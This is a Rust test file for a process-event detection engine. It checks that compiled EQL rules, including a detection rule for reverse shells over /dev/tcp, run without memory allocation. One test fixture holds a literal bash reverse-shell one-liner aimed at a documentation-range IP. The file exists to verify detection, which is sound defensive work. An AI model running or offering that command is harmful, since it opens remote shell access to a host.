//! Evaluation must not allocate: a counting global allocator watches this thread while
//! compiled rules run many times against typed `ProcessEvent`s and `JsonDocument`s.
//!
//! Compilation allocates, and so does the first search of each regex on a thread (the `regex`
//! crate builds its per-thread cache lazily), so every rule runs once before counting starts.

mod alloc_support;

use std::sync::Arc;

use alloc_support::allocations_in;
use execsentry::eql::{compile_str, MissingPolicy, Options, Program};
use execsentry::event::{Action, HostInfo, Ids, ProcessEvent, ProcessInfo, SourceFacts};
use execsentry::{Document, JsonDocument};

const SEED: &str = r#"process where event.type in ("start", "process_started") and
  process.name in ("sh", "bash", "zsh", "dash", "zmodload") and
  process.args : ("*/dev/tcp/*", "*/dev/udp/*", "*zsh/net/tcp*", "*zsh/net/udp*") and
  /* noisy FPs */
  not (process.parent.name : "timeout" and process.executable : "/var/lib/docker/overlay*") and
  not process.command_line : (
    "*/dev/tcp/sirh_db/*", "*/dev/tcp/remoteiot.com/*", "*dev/tcp/elk.stag.one/*", "*dev/tcp/kafka/*",
    "*/dev/tcp/$0/$1*", "*/dev/tcp/127.*", "*/dev/udp/127.*", "*/dev/tcp/localhost/*", "*/dev/tcp/itom-vault/*") and
  not process.parent.command_line : "runc init""#;

/// Rules touching every evaluation path: sets, folded sets, wildcards of each shape, regex,
/// ordering, existence, coercion, CIDR, functions over arrays, arithmetic, Kleene logic.
const OTHERS: &[&str] = &[
    r#"process where process.name in~ ("BASH", "SH") and process.args_count >= 2 and user.id == "0""#,
    r#"process where process.executable like ("/tmp/*", "/dev/shm/*", "*/.cache/*", "*.sh", "/opt/?ool/*bin*")"#,
    r#"process where process.args regex~ """-[^-]*[uz][^-]*""" or process.command_line regex ".*[0-9]{1,3}\\.[0-9]{1,3}\\.[0-9]{1,3}\\.[0-9]{1,3}.*""#,
    r#"process where ?process.parent.executable != null and process.parent.pid > 1 and process.pid != 0"#,
    r#"process where length(process.command_line) > 20 and startsWith~(process.args, "-C") and not stringContains(process.executable, process.name)"#,
    r#"any where not cidrmatch(source.ip, "10.0.0.0/8", "fe80::/10") and process.pid + 1 > 2 and number(process.user.id) == 0"#,
    r#"process where process.interactive == false and not process.name : ("a*b*c", "?", "*x?y*") and process.working_directory in ("/tmp", "/var/tmp")"#,
    r#"process where process.name == "bash" and (auditd.data.a0 == 1000.0 or process.args_count == 3.0)"#,
    r#"process where concat(process.name, " ", process.pid) == "bash 42" or substring(process.name, -2) == "sh" or string(process.pid) : "4*""#,
];

fn process(exe: &str, args: &[&str], parent: Option<(&str, &[&str])>) -> ProcessEvent {
    let mut p = ProcessInfo {
        pid: 42,
        ppid: 7,
        executable: exe.into(),
        args: args.iter().map(|s| s.to_string()).collect(),
        working_directory: Some("/tmp".into()),
        ids: Arc::new(Ids {
            user_id: "0".into(),
            ..Default::default()
        }),
        ..Default::default()
    };
    p.derive_names();
    let parent = parent.map(|(exe, args)| {
        let mut pp = ProcessInfo {
            pid: 7,
            ppid: 1,
            executable: exe.into(),
            args: args.iter().map(|s| s.to_string()).collect(),
            ..Default::default()
        };
        pp.derive_names();
        Arc::new(pp)
    });
    ProcessEvent {
        timestamp_ns: 1_700_000_000_000_000_000,
        sequence: 1,
        action: Action::Exec,
        process: Arc::new(p),
        parent,
        host: Arc::new(HostInfo {
            name: "h".into(),
            hostname: "h".into(),
            os_type: "linux".into(),
            ..Default::default()
        }),
        source: SourceFacts::Audit {
            session: None,
            audit_user_id: None,
            key: None,
            syscall: "execve",
            failed: false,
        },
    }
}

fn events() -> Vec<ProcessEvent> {
    vec![
        process(
            "/usr/bin/ls",
            &["ls", "-la"],
            Some(("/usr/bin/bash", &["bash"])),
        ),
        process(
            "/usr/bin/bash",
            &["bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"],
            Some(("/usr/sbin/sshd", &["sshd:", "root"])),
        ),
        process(
            "/usr/bin/bash",
            &["bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/80"],
            None,
        ),
        process(
            "/tmp/tool",
            &["tool", "-fuz", "10.1.2.3"],
            Some(("/usr/bin/timeout", &["timeout", "5"])),
        ),
        process(
            "/usr/bin/python3",
            &["python3", "-c", "print(1)"],
            Some(("/usr/bin/zsh", &["zsh"])),
        ),
    ]
}

fn json_events() -> Vec<JsonDocument> {
    let mut docs: Vec<JsonDocument> = events()
        .iter()
        .map(|e| match e.to_json() {
            serde_json::Value::Object(m) => JsonDocument::new(m),
            _ => unreachable!(),
        })
        .collect();
    let extra = serde_json::json!({
        "event.category": ["process", "network"],
        "event.type": "start",
        "process.name": "BASH",
        "process.args": ["bash", ["-C", null], 3, true],
        "process.pid": "42",
        "process.args_count": 3.0,
        "source": {"ip": ["fe80::1", "8.8.8.8"]},
        "user": {"id": 0},
    });
    if let serde_json::Value::Object(m) = extra {
        docs.push(JsonDocument::new(m));
    }
    docs
}

fn rules(missing: MissingPolicy) -> Vec<Program> {
    std::iter::once(SEED)
        .chain(OTHERS.iter().copied())
        .map(|q| {
            compile_str(q, &Options { missing })
                .unwrap_or_else(|e| panic!("{q}\n{}", e[0].render(q)))
        })
        .collect()
}

fn run_all<D: Document>(rules: &[Program], docs: &[D]) -> usize {
    let mut hits = 0;
    for r in rules {
        for d in docs {
            hits += usize::from(r.matches(d));
            hits += usize::from(r.evaluate(d) == Some(true));
        }
    }
    hits
}

#[test]
fn evaluation_does_not_allocate() {
    let typed = events();
    let json = json_events();
    for missing in [MissingPolicy::EsPushdown, MissingPolicy::Kleene] {
        let rules = rules(missing);
        // Warm up per-thread regex caches.
        let expected = (run_all(&rules, &typed), run_all(&rules, &json));
        assert!(
            expected.0 > 0 && expected.1 > 0,
            "some rule must match: {expected:?}"
        );
        let mut got = (0, 0);
        let n = allocations_in(|| {
            for _ in 0..1_000 {
                got.0 += run_all(&rules, &typed);
                got.1 += run_all(&rules, &json);
            }
        });
        assert_eq!(n, 0, "{missing:?}: {n} allocations during evaluation");
        assert_eq!(got, (expected.0 * 1_000, expected.1 * 1_000));
    }
}

/// The seed rule's verdicts on the events above, so the loop measures real work.
#[test]
fn seed_rule_verdicts() {
    let seed = &rules(MissingPolicy::EsPushdown)[0];
    let verdicts: Vec<bool> = events().iter().map(|e| seed.matches(e)).collect();
    assert_eq!(verdicts, [false, true, false, false, false]);
}

/// The counter itself works.
#[test]
fn counter_counts() {
    let n = allocations_in(|| {
        let v: Vec<u8> = Vec::with_capacity(16);
        std::hint::black_box(v);
    });
    assert_eq!(n, 1);
}
